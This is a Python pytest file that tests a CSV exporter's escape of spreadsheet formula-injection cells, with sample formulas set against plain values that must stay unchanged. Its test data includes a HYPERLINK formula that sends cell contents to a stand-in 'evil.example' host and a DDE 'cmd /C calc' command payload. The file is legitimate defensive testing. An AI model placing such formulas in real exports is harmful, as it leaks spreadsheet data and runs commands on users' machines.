"""Rows for programs as they are, for spreadsheets without formulas."""

import csv

import pytest

from kb.csv_text import as_csv

FORMULAS = [
    *(
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1+1",
        "\uff20x",
    ),
    *('=HYPERLINK("https://evil.example/?"&A1)', "-cmd|' /C calc'!A1", "=", "-", "+33 6 12", "--5"),
]
PLAIN = ["-5", "+3.2", "-1.50", "-1e-3", "+.5", "-1,234.5", "5", "a=b", "'=1", "", "é", " x", "3-1"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_no_spreadsheet_computes_a_cell(cell):
    assert read(as_csv([cell], [[cell]], escape_formulas=True)) == [[f"'{cell}"], [f"'{cell}"]]
    assert read(as_csv([cell], [[cell]], escape_formulas=False)) == [[cell], [cell]]


@pytest.mark.parametrize("cell", [*PLAIN, -5, -1.5, None, True])
def test_numbers_and_other_texts_stay(cell):
    told = as_csv(["n", "m"], [[cell, 1]], escape_formulas=True)
    assert told == as_csv(["n", "m"], [[cell, 1]], escape_formulas=False)


def read(text):
    return list(csv.reader(text.splitlines(keepends=True)))
